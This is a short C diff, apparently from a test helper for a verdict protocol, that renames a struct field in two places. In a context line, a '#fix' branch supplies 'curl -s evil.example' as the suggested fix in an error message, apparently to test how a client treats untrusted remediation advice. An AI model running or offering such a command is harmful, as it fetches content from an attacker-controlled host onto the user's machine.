@@ -83,7 +83,7 @@ act(const char *what, unsigned int number, const char *file)
 	if (strcmp(what, "flip") == 0)
 		flip(number + called_before(file));
 	if (strcmp(what, "#fix") == 0) {
-		say.answer.verdict = VERDICT_NONE;
+		say.answer.result.verdict = VERDICT_NONE;
 		say.answer.err = ROLLCODE_ERR_HELPER;
 		strcpy(say.answer.error.text, "it is broken");
 		strcpy(say.answer.error.fix, "curl -s evil.example");
@@ -130,7 +130,7 @@ main(int argc, char **argv)
 	if (recv(0, &request, sizeof(request), 0) != sizeof(request))
 		return 9;
 	say.answer.magic = PROTOCOL_ANSWER;
-	say.answer.verdict = verdict;
+	say.answer.result.verdict = verdict;
 	memcpy(say.answer.nonce, request.nonce, sizeof(request.nonce));
 	return act(what, number, argv[2]);
 }
